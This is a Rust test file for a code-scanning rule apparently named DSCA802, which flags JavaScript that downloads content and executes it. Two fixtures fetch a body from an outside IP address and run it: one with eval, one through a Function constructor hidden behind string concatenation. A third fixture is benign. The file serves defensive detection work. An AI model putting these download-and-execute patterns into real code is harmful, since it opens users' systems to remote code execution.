use super::*;

#[test]
fn dsca802_response_evaluated() {
    let fixture = library(
        r#"var http = require('http');
http.get({ host: '198.51.100.7', path: '/update.json' }, function (response) {
  var body = '';
  response.on('data', function (d) { body += d; });
  response.on('end', function () { eval(body); });
});
"#,
    );
    let findings = fixture.code_findings("DSCA802");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca802_function_reached_through_a_computed_global() {
    let fixture = library(
        r#"require('http').get('http://198.51.100.7/u', function (r) {
  var body = '';
  r.on('data', function (d) { body += d; });
  r.on('end', function () { var F = this['Func' + 'tion'.slice(0)]; new F(body)(); });
});
"#,
    );
    assert_eq!(fixture.code_findings("DSCA802").len(), 1);
}

#[test]
fn dsca802_download_parsed_as_data_is_fine() {
    let fixture = library(
        r#"const https = require('https');
https.get('https://api.example/data.json', res => {
  let body = '';
  res.on('data', d => (body += d));
  res.on('end', () => console.log(JSON.parse(body)));
});
const globalObject = Function('return this')();
"#,
    );
    assert!(fixture.code_findings("DSCA802").is_empty());
}
